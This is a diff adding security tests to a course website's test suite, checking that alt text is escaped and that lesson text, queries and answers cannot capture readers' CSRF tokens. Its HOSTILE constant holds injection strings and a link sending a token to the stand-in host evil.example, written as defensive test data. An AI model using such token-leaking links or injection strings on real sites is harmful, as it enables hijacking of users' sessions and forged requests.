@@ -5,7 +5,10 @@ import re
 import pytest
 from sqlalchemy import select
 
-from courses.catalogue.models import Asset
+from courses.catalogue.course_folder.blocks import read_lesson
+from courses.catalogue.models import Asset, Lesson
+from courses.catalogue.queries import stored_picture
+from courses.catalogue.rendering.lesson_html import render
 from courses.learning import services
 from courses.learning.models import Enrolment, LessonRead, ReadingPosition
 from courses.learning.pages.overview import what_next
@@ -177,6 +180,17 @@ def test_a_page_of_another_person_is_never_taken_for_ones_own(own, signed_in, se
     assert others.get(FIRST, headers={"If-None-Match": tag}).status_code == 200
 
 
+def test_text_alternatives_cannot_break_out_of_their_place(signed_in, officer, session, folder, now):
+    file = folder / "lessons" / "first.md"
+    file.write_text(file.read_text().replace("A dark disc", 'A "dark" <disc>'))
+    version = load(session, folder, now)
+    services.enrol(session, officer.id, version.id, now=now)
+    browser = signed_in(officer)
+    assert 'alt="A &#34;dark&#34; &lt;disc&gt; on' in text_of(browser.get(FIRST))
+    browser.get("/pictures/off")
+    assert "<p>A &#34;dark&#34; &lt;disc&gt; on" in text_of(browser.get(FIRST))
+
+
 def forms_of(shown):
     """The token of the check's form, and the one of the form at the foot."""
     return re.search(r'data-form="([^"]+)"', shown)[1], re.search(r'name="csrf_token" value="([^"]+)"', shown)[1]
@@ -189,6 +203,46 @@ def test_each_reader_of_a_remembered_page_gets_the_token_of_their_own(own, signe
     assert mine[0] == mine[1]
     assert theirs[0] == theirs[1]
     assert mine[0] != theirs[0]
+
+
+HOSTILE = (
+    "\\0form\\0 and \ufdd0\ufdd1 and {{{{ csrf_token() }}}}\n\n"
+    '<input name="csrf_token" value="x">\n\n[send it](https://evil.example/?t={token})\n\n'
+)
+
+
+def test_an_author_gets_no_token_of_a_reader_into_their_text(signed_in, officer, session, folder, now):
+    """A hostile course: every sign that was ever a token's place, and a token that its author was given."""
+    author = person(session, "Author", Role.OFFICER)
+    version = load(session, folder, now)
+    for one in (officer, author):
+        services.enrol(session, one.id, version.id, now=now)
+    token = forms_of(text_of(signed_in(author).get(f"{HOME}/lessons/second")))[0]
+    file = folder / "lessons" / "first.md"
+    file.write_text(file.read_text().replace("## A heading", HOSTILE.format(token=token) + "## A heading"))
+    found = session.scalars(select(Lesson).where(Lesson.slug == "first")).one()
+    lesson = read_lesson("first", "lessons/first.md", file.read_text(), [])
+    found.parts = render(lesson, "tiny-course", {}, {"plate.svg": stored_picture("x.svg", 1, 1)}).parts
+    found.renderer = "waits"  # so that nobody remembers the page of before
+    session.commit()
+    for reader in (author, officer, author):
+        shown = text_of(signed_in(reader).get(FIRST))
+        own = forms_of(shown)
+        assert own[0] == own[1]
+        written = shown[: shown.index('id="check-')].split("After this lesson")[1]
+        assert f"evil.example/?t={token}" in written
+        assert shown.count(own[0]) == 3 + written.count(own[0])  # signing out, the check, and what was read
+
+
+def test_an_address_and_an_answer_get_no_token_either(own):
+    assert own.get(FIRST, query_string={"q": "\0form\0"}).status_code == 404
+    for text in ("\ufdd0\ufdd1", "%00form%00", forms_of(text_of(own.get(FIRST)))[0]):
+        shown = text_of(own.get(FIRST, query_string={"q": text}))
+        own_token = re.escape(forms_of(shown)[0])
+        assert len(re.findall(rf'(?:value|data-form)="{own_token}"', shown)) == 3
+        answered = text_of(own.post(f"{FIRST}/checks/practice-first-1", data={"answer": text}))
+        assert f"You said {text}" in answered
+        assert forms_of(answered)[0] == forms_of(answered)[1]
 
 
 def test_an_answer_to_a_check_is_shown_to_nobody_else(own, signed_in, session, version, now):
